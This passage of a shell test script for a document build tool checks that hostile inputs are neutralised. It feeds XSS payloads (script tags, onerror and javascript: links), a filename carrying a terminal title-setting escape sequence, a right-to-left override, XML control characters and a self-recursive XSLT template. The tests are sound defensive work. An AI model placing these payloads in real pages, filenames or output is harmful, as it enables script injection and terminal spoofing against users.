		grep -qF 'CRA x``y`&lt;img src=x onerror=alert(1)&gt;` --&gt; &lt;!-- &lt;script&gt;alert(2)&lt;/script&gt; *z* [l](javascript:alert(3)) Article' rendered.html ||
			failed "the short title is not kept as text in $md"
	done
	for x in new/*.fodt new/assessment.xml; do
		xmllint --noout "$x" 2>/dev/null || failed "$x is not well-formed XML"
	done
	;;
terminal-escapes)
	# issue 18, class 4: input text echoed in a diagnostic cannot drive the terminal:
	# a page file named with ESC ] 0 ; (set the window title) and BEL, and a heading
	# with a right-to-left override; stderr holds no raw ESC, BEL or U+202E, but their
	# escapes
	setup_mini
	cp $A/article-004.md "$A/article-005$(printf '\033]0;owned\007').md"
	sed -i "2s/^# Article 4:/# $(printf '\342\200\256')Chapter 4:/" $A/article-004.md
	run build mini -o out
	expect_status 1 "build"
	if LC_ALL=C grep -q "$(printf '[\033\007]')" run.err; then failed "a raw control character reached stderr"; fi
	if grep -qF "$(printf '\342\200\256')" run.err; then failed "a raw U+202E reached stderr"; fi
	expect_diag '^mini/articles/article-005\\x1b\]0;owned\\x07\.md: error: unexpected file'
	expect_diag "^mini/articles/article-004\.md:2: error: unknown unit kind '\\\\u202EChapter'"
	expect_intact out "$before"
	;;
xml-control-chars)
	# issue 18, class 2, in XML inputs: a character reference to ESC and a raw VT byte
	# in a product are refused by the parser with the line (XML 1.0 forbids both)
	setup_reg
	product_with ctl1.xml 's|<name>HireRank CV Screening</name>|<name>A\&#27;[2J</name>|'
	assess_bad ctl1.xml
	expect_status 1 "assess ctl1.xml"
	expect_diag "^ctl1\.xml:5: error: character U\+001B is not allowed in XML"
	product_with ctl2.xml "s|<name>HireRank CV Screening</name>|<name>A$(printf '\013')B</name>|"
	assess_bad ctl2.xml
	expect_status 1 "assess ctl2.xml"
	expect_diag "^ctl2\.xml:5: error: "
	expect_intact pout "$pbefore"
	;;
template-recursion)
	# issue 18, class 11: a template that calls itself without end is stopped by
	# libxslt's depth limit; the message is one line in regdoc's terms, with the
	# stylesheet and line, and every line of stderr is a diagnostic
	setup_mini
	cp -R "$root/templates" T
	sed -i 's|<xsl:template match="regulation" mode="site">|<xsl:template name="rd-forever"><xsl:call-template name="rd-forever"/></xsl:template>\n&<xsl:call-template name="rd-forever"/>|' T/site/site.xsl
	grep -q 'rd-forever' T/site/site.xsl || { echo "FAIL [$class]: setup: stylesheet not edited"; exit 1; }
	run build --templates T mini -o out
	expect_status 1 "build"
	expect_diag "^T/site/site\.xsl:[0-9]+: error: templates nested deeper than libxslt's limit \(3000 calls or variables\)"
	bad=$(grep -Ev '^([^ :]+(:[0-9]+)*: (error|warning|note)|regdoc: (error|warning|note)): ' run.err | head -3)
	[ -z "$bad" ] || failed "stderr lines that are not diagnostics: $bad"
	expect_intact out "$before"
	;;
*)
	echo "run.sh: unknown class '$class'; classes:" $classes >&2
	exit 2
	;;
esac

if [ "$fail" != 0 ]; then
	echo "--- runs:$runs"
	echo "--- stderr of the last run (first 40 lines):"
	head -n 40 run.err
	exit 1
fi
echo "ok [$class]:$runs" | sed 's/^/  /'
exit 0
